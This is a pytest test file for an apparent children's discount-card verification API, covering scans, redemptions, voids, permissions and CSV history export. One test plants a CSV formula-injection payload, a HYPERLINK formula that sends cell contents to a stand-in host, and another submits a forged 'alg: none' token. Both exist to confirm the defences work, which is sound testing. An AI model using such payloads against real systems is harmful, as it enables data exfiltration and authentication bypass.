"""Scan, redeem, void and history as a cashier and a manager live them."""

from __future__ import annotations

import uuid
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from tests.conftest import login
from tests.helpers import PASSWORD, approved_partner, outlet_body, today
from verification.service import attempts, void
from verification.tables import Attempt, Redemption

WIB = ZoneInfo("Asia/Jakarta")
PROBLEM = "application/problem+json"


async def test_scan_lists_every_offer_eligible_first_with_plain_reasons(till):
    books = await till.offer(
        "books", title="Diskon buku 10%", benefit={"type": "percent", "percent": 10, "max_discount": 50_000}
    )
    teens = await till.offer(
        "teens", title="Komik remaja", age_min=13, age_max=16, benefit={"type": "fixed_amount", "amount": 5_000}
    )
    qr = await till.card(age_years=8)

    response = await till.scan(qr)

    assert response.status_code == 200
    body = response.json()
    assert body["card"]["status"] == "active"
    assert body["card"]["age_years"] == 8
    assert len(body["card"]["holder_ref"]) == 10
    assert [o["offer_id"] for o in body["offers"]] == [books["id"], teens["id"]]
    first, second = body["offers"]
    assert first["eligible"] is True
    assert first["benefit"]["text"] == "Diskon 10% maks. Rp50.000"
    assert first["remaining"] == 1  # 1 per day, 4 per month
    assert second["eligible"] is False
    assert second["reason_code"] == "age_below_minimum"
    assert second["message"] == "Khusus anak usia 13–16 tahun."


async def test_scan_of_a_forged_code_answers_200_with_the_reason_and_nothing_eligible(till):
    await till.offer()
    response = await till.scan("eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.")
    assert response.status_code == 200
    assert response.json()["card"]["status"] == "invalid"
    assert response.json()["card"]["reason_code"] == "signature_invalid"
    assert all(not o["eligible"] for o in response.json()["offers"])
    assert all(o["reason_code"] == "signature_invalid" for o in response.json()["offers"])


async def test_malformed_scan_body_is_a_problem(till):
    for body in ({}, {"qr": ""}, {"qr": 5}, {"qr": "x" * 5000}):
        response = await till.client.post("/api/v1/verification/scan", json=body, headers=till.world.cashier)
        assert response.status_code == 422, body
        assert response.headers["content-type"] == "application/problem+json"


async def test_redeem_then_the_same_child_the_same_day_is_told_tomorrow(till):
    offer = await till.offer()
    qr = await till.card()

    first = await till.redeem(qr, offer["id"], purchase=137_500)
    assert first.status_code == 201
    receipt = first.json()
    assert receipt["discount_amount"] == 13_750
    assert receipt["purchase_amount"] == 137_500
    assert receipt["receipt_code"].startswith("R")

    second = await till.redeem(qr, offer["id"], purchase=80_000)
    assert second.status_code == 409
    problem = second.json()
    assert problem["code"] == "holder_limit_reached"
    assert problem["detail"] == "Sudah dipakai hari ini — bisa lagi besok"
    assert problem["period"] == "day"
    tomorrow = datetime.combine(today() + timedelta(days=1), datetime.min.time(), tzinfo=WIB)
    assert datetime.fromisoformat(problem["next_eligible_at"]) == tomorrow

    scanned = (await till.scan(qr)).json()["offers"][0]
    assert scanned["eligible"] is False
    assert scanned["message"] == "Sudah dipakai hari ini — bisa lagi besok"
    assert await Redemption.count() == 1


async def test_discounts_round_down_and_respect_their_caps(till):
    percent = await till.offer("p", benefit={"type": "percent", "percent": 15, "max_discount": 20_000}, limits=[])
    fixed = await till.offer("f", benefit={"type": "fixed_amount", "amount": 10_000}, limits=[])
    entry = await till.offer("e", benefit={"type": "free_entry", "value": 25_000}, limits=[])
    qr = await till.card()
    cases = [(percent, 99_999, 14_999), (percent, 1_000_000, 20_000), (fixed, 7_500, 7_500), (fixed, 50_000, 10_000),
             (entry, 0, 25_000)]  # fmt: skip
    for offer, purchase, expected in cases:
        response = await till.redeem(qr, offer["id"], purchase=purchase)
        assert response.status_code == 201, response.text
        assert response.json()["discount_amount"] == expected


async def test_the_same_key_returns_the_first_answer_and_writes_nothing(till):
    offer = await till.offer()
    qr = await till.card()
    key = str(uuid.uuid4())

    first = await till.redeem(qr, offer["id"], key=key)
    again = await till.redeem(qr, offer["id"], key=key)

    assert first.status_code == again.status_code == 201
    assert first.json() == again.json()
    assert await Redemption.count() == 1
    other_body = await till.redeem(qr, offer["id"], purchase=5, key=key)
    assert other_body.status_code == 422
    assert other_body.json()["code"] == "idempotency_key_reused"


async def test_a_refusal_is_also_the_first_answer(till):
    offer = await till.offer(age_min=13)
    qr = await till.card(age_years=8)
    key = str(uuid.uuid4())
    first = await till.redeem(qr, offer["id"], key=key)
    again = await till.redeem(qr, offer["id"], key=key)
    assert first.status_code == again.status_code == 409
    assert first.json() == again.json()


async def test_redeem_needs_an_idempotency_key(till):
    offer = await till.offer()
    response = await till.client.post(
        "/api/v1/verification/redemptions",
        json={"qr": await till.card(), "offer_id": offer["id"], "purchase_amount": 1000},
        headers=till.world.cashier,
    )
    assert response.status_code == 422
    assert response.json()["code"] == "idempotency_key_required"
    assert await Redemption.count() == 0


async def test_void_gives_back_the_limit_and_is_idempotent(till):
    offer = await till.offer()
    qr = await till.card()
    receipt = (await till.redeem(qr, offer["id"])).json()

    voided = await till.client.post(
        f"/api/v1/verification/redemptions/{receipt['redemption_id']}/void",
        json={"reason": "salah pilih penawaran"},
        headers=till.world.cashier,
    )
    assert voided.status_code == 200
    assert voided.json()["status"] == "voided"
    again = await till.client.post(
        f"/api/v1/verification/redemptions/{receipt['redemption_id']}/void", headers=till.world.cashier
    )
    assert again.json() == voided.json()
    assert (await till.redeem(qr, offer["id"])).status_code == 201  # the day's use came back
    rows = await Redemption.select(Redemption.status).order_by(Redemption.redeemed_at)
    assert [r["status"] for r in rows] == ["voided", "completed"]


async def test_void_window_closes_at_the_end_of_the_local_day(till):
    offer = await till.offer()
    receipt = (await till.redeem(await till.card(), offer["id"])).json()
    from core.auth import CurrentUser
    from core.stores import Stores
    from verification.errors import VoidWindowClosed

    me = (await till.client.get("/api/v1/auth/me", headers=till.world.cashier)).json()
    cashier = CurrentUser(id=uuid.UUID(me["id"]), username=me["username"], role="cashier", display_name="Kasir")
    tomorrow = datetime.combine(today() + timedelta(days=1), datetime.min.time(), tzinfo=WIB) + timedelta(minutes=1)
    with pytest.raises(VoidWindowClosed):
        await void.void(uuid.UUID(receipt["redemption_id"]), None, cashier, Stores(None), now=tomorrow)
    assert (await Redemption.select(Redemption.status).first())["status"] == "completed"


async def test_who_may_void(till, client):
    offer = await till.offer()
    receipt = (await till.redeem(await till.card(), offer["id"])).json()
    url = f"/api/v1/verification/redemptions/{receipt['redemption_id']}/void"
    second_outlet = await client.post(
        till.world.url("/outlets"), json=outlet_body("Cabang Dua", "17.71.09.1001"), headers=till.world.manager
    )
    await client.post(
        till.world.url("/staff"),
        json={"username": "kasir.dua", "password": PASSWORD, "display_name": "Kasir Dua", "role": "cashier",
              "outlet_id": second_outlet.json()["id"]},
        headers=till.world.manager,
    )  # fmt: skip
    other_outlet_cashier = await login(client, "kasir.dua", PASSWORD)
    other_partner = await approved_partner(client, till.world.dukcapil, name="Toko Lain", slug="lain")

    assert (await client.post(url, headers=other_outlet_cashier)).status_code == 404
    assert (await client.post(url, headers=other_partner.manager)).status_code == 404
    assert (await client.post(url, headers=other_partner.cashier)).status_code == 404
    assert (await client.post(url, headers=till.world.manager)).status_code == 200


async def test_history_for_cashier_and_manager_with_csv(till, client):
    offer = await till.offer(title="Diskon buku 10%")
    for _ in range(3):
        await till.redeem(await till.card(), offer["id"], purchase=50_000)
    cashier = (await client.get("/api/v1/verification/redemptions", headers=till.world.cashier)).json()
    manager = (await client.get("/api/v1/verification/redemptions", params={"limit": 2},
                                headers=till.world.manager)).json()  # fmt: skip
    assert cashier["total"] == 3
    assert manager["total"] == 3
    assert len(manager["items"]) == 2
    row = cashier["items"][0]
    assert row["offer_title"] == "Diskon buku 10%"
    assert row["outlet_name"] == "Pelangi Pasar Baru"
    assert row["redeemed_at_local"].endswith("WIB")
    csv_text = (await client.get("/api/v1/verification/redemptions", params={"format": "csv"},
                                 headers=till.world.manager)).content.decode("utf-8-sig")  # fmt: skip
    lines = csv_text.strip().splitlines()
    assert (
        lines[0]
        == "receipt_code,redeemed_at_local,outlet_name,offer_title,purchase_amount,discount_amount,status,holder_ref,"
        "cashier,device_id,voided_at_local,voided_by,void_reason"
    )
    assert len(lines) == 4
    assert ",50000,5000,completed," in lines[1]


async def test_every_scan_redeem_and_void_is_in_the_attempt_log(till):
    offer = await till.offer(age_min=10)
    young = await till.card(age_years=6)
    old = await till.card(age_years=12)
    await till.scan(young)
    receipt = (await till.redeem(old, offer["id"], **{"X-Device-Id": "hp-kasir-01"})).json()
    await till.redeem(young, offer["id"])
    await till.client.post(f"/api/v1/verification/redemptions/{receipt['redemption_id']}/void",
                           headers=till.world.cashier)  # fmt: skip
    await attempts.flush()  # the scans' rows wait in the worker's buffer (verification.service.attempts)
    rows = await Attempt.select(Attempt.kind, Attempt.outcome, Attempt.reason_code, Attempt.device_id).order_by(
        Attempt.occurred_at  # when each happened: a scan's row is written after the redeem that followed it
    )
    assert [(r["kind"], r["outcome"], r["reason_code"]) for r in rows] == [
        ("scan", "ineligible", "age_below_minimum"),
        ("redeem", "redeemed", None),
        ("redeem", "refused", "age_below_minimum"),
        ("void", "voided", None),
    ]
    assert rows[1]["device_id"] == "hp-kasir-01"


async def test_an_api_key_works_at_the_till_within_its_scopes(till, client):
    offer = await till.offer()
    scan_only = await client.post(
        till.world.url("/api-keys"), json={"name": "POS", "outlet_id": till.world.outlet_id, "scopes": ["scan"]},
        headers=till.world.manager,
    )  # fmt: skip
    key = {"X-API-Key": scan_only.json()["key"]}
    qr = await till.card()
    scanned = await client.post("/api/v1/verification/scan", json={"qr": qr}, headers=key)
    assert scanned.status_code == 200
    listed = (await client.get(till.world.url("/api-keys"), headers=till.world.manager)).json()
    assert [k["last_used_at"] is not None for k in listed] == [True]  # the partner sees the key in use
    refused = await client.post(
        "/api/v1/verification/redemptions",
        json={"qr": qr, "offer_id": offer["id"], "purchase_amount": 1000},
        headers={**key, "Idempotency-Key": "k-1"},
    )
    assert refused.status_code == 403


async def test_a_suspended_partner_cannot_scan(till, client):
    await till.offer()
    await client.post(f"/api/v1/admin/partners/{till.world.partner_id}/suspend", json={"reason": "diperiksa"},
                      headers=till.world.dukcapil)  # fmt: skip
    response = await till.scan(await till.card())
    assert response.status_code == 409
    assert response.json()["code"] == "partner_not_approved"


async def test_a_partner_agreed_void_window_in_minutes(till, client):
    terms = await client.patch(
        f"/api/v1/admin/partners/{till.world.partner_id}/terms",
        json={"void_window_minutes": 15},
        headers=till.world.dukcapil,
    )
    assert terms.status_code == 200
    assert terms.json()["void_window_minutes"] == 15
    bad = await client.patch(
        f"/api/v1/admin/partners/{till.world.partner_id}/terms",
        json={"void_window_minutes": 0},
        headers=till.world.dukcapil,
    )
    assert bad.status_code == 422
    offer = await till.offer()
    receipt = (await till.redeem(await till.card(), offer["id"])).json()
    rows = (await client.get("/api/v1/verification/redemptions", headers=till.world.cashier)).json()["items"]
    deadline = datetime.fromisoformat(rows[0]["void_deadline"])
    assert deadline - datetime.fromisoformat(receipt["redeemed_at"]) == timedelta(minutes=15)

    from core.auth import CurrentUser
    from core.stores import Stores
    from verification.errors import VoidWindowClosed

    me = (await client.get("/api/v1/auth/me", headers=till.world.cashier)).json()
    cashier = CurrentUser(id=uuid.UUID(me["id"]), username=me["username"], role="cashier", display_name="Kasir")
    late = datetime.fromisoformat(receipt["redeemed_at"]) + timedelta(minutes=16)
    with pytest.raises(VoidWindowClosed) as closed:
        await void.void(uuid.UUID(receipt["redemption_id"]), None, cashier, Stores(None), now=late)
    assert closed.value.render_detail("id").endswith(" WIB.")  # the deadline, in the outlet's zone


async def test_history_paging_past_any_history_or_integer_is_refused_by_name(till, client):
    """`offset=10**20` was a 500 (PostgreSQL's bigint, SQLite's integer overflowed): every integer of the API is
    bounded where it is declared, so the answer is a 422 naming the parameter."""
    for params in ({"offset": 10**20}, {"offset": 2**63}, {"offset": 10_000_001}, {"offset": -1}, {"limit": 10**20},
                   {"offset": "9" * 5000}):  # fmt: skip
        response = await client.get("/api/v1/verification/redemptions", params=params, headers=till.world.manager)
        assert (response.status_code, response.headers["content-type"]) == (422, PROBLEM), (params, response.text)
        body = response.json()
        assert body["code"] == "validation_failed"
        assert [error["field"] for error in body["errors"]] == list(params), params
    deepest = await client.get(
        "/api/v1/verification/redemptions", params={"offset": 10_000_000}, headers=till.world.manager
    )
    assert deepest.status_code == 200
    assert (deepest.json()["items"], deepest.json()["offset"]) == ([], 10_000_000)
    for path, name in (("/api/v1/catalog/offers", "age"), ("/api/v1/admin/reports/uplift", "limit")):
        response = await client.get(path, params={name: 10**20}, headers=till.world.dukcapil)
        assert (response.status_code, response.json()["errors"][0]["field"]) == (422, name), path


async def test_the_history_csv_writes_a_formula_shaped_outlet_name_as_text(till, client):
    renamed = await client.put(
        till.world.url(f"/outlets/{till.world.outlet_id}"),
        json=outlet_body('=HYPERLINK("http://x.example/?"&A1,"klik")'),
        headers=till.world.manager,
    )
    assert renamed.status_code == 200, renamed.text
    offer = await till.offer()
    assert (await till.redeem(await till.card(), offer["id"])).status_code == 201

    csv_text = (await client.get("/api/v1/verification/redemptions", params={"format": "csv"},
                                 headers=till.world.manager)).content.decode("utf-8-sig")  # fmt: skip

    (row,) = list(__import__("csv").DictReader(csv_text.splitlines()))
    assert row["outlet_name"].startswith("'=HYPERLINK")


async def test_a_dispute_can_be_traced_cashier_device_and_who_voided_why(till, client):
    offer = await till.offer()
    receipt = (await till.redeem(await till.card(), offer["id"], **{"X-Device-Id": "hp-kasir-01"})).json()
    voided = await client.post(
        f"/api/v1/verification/redemptions/{receipt['redemption_id']}/void",
        json={"reason": "Salah pilih penawaran"},
        headers={**till.world.manager, "X-Device-Id": "laptop-manajer"},
    )
    assert voided.status_code == 200, voided.text
    assert voided.json()["voided_at"].endswith("+07:00")  # the outlet's zone, like every time the till reads
    assert receipt["redeemed_at"].endswith("+07:00")
    assert receipt["void_deadline"].endswith("+07:00")

    (row,) = (await client.get("/api/v1/verification/redemptions", headers=till.world.manager)).json()["items"]

    assert (row["cashier"], row["device_id"]) == ("Kasir (pelangi.kasir)", "hp-kasir-01")
    assert row["voided_by"].endswith("(pelangi.manajer)")
    assert row["void_reason"] == "Salah pilih penawaran"
    assert row["voided_at_local"].endswith("WIB")
    csv_text = (await client.get("/api/v1/verification/redemptions", params={"format": "csv"},
                                 headers=till.world.manager)).content.decode("utf-8-sig")  # fmt: skip
    (line,) = list(__import__("csv").DictReader(csv_text.splitlines()))
    assert (line["cashier"], line["device_id"], line["void_reason"]) == (
        "Kasir (pelangi.kasir)",
        "hp-kasir-01",
        "Salah pilih penawaran",
    )
    assert line["voided_by"].endswith("(pelangi.manajer)")


async def test_a_replay_is_byte_identical_to_the_first_answer_whatever_its_language(till):
    offer = await till.offer(age_min=13)
    qr = await till.card(age_years=8)
    first = await till.redeem(qr, offer["id"], key="kunci-sama", **{"Accept-Language": "id"})
    again = await till.redeem(qr, offer["id"], key="kunci-sama", **{"Accept-Language": "en"})
    assert first.status_code == again.status_code == 409
    assert first.content == again.content
    assert "Khusus anak usia" in first.json()["detail"]
